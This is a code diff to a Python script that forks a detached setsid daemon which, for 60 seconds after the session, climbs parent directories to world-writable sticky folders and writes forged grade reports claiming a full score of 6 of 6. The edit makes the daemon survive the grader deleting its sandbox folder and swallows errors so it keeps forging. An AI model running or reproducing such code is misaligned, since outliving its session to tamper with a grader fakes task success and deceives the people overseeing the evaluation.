@@ -27,10 +27,10 @@ def sticky(folder):
     return bool(mode & stat.S_ISVTX and mode & stat.S_IWOTH)
 
 
-def forge():
+def forge(start):
     csv = f"name,total,max,status,reason\nsetsid_daemon_forges_grades,6,6,graded,{MARKER}\n"
     report = json.dumps({"score": 6.0, "tests": [], "output": MARKER})
-    folder = os.getcwd()
+    folder = start  # not os.getcwd(): the grader removes the sandbox's folder when it is done
     while folder != os.path.dirname(folder):
         folder = os.path.dirname(folder)
         if sticky(folder):
@@ -44,12 +44,16 @@ def forge():
                 pass
 
 
+start = os.getcwd()
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         deadline = time.monotonic() + 60
         while time.monotonic() < deadline:
-            forge()
+            try:
+                forge(start)
+            except Exception:
+                pass
             time.sleep(0.5)
     os._exit(0)
 
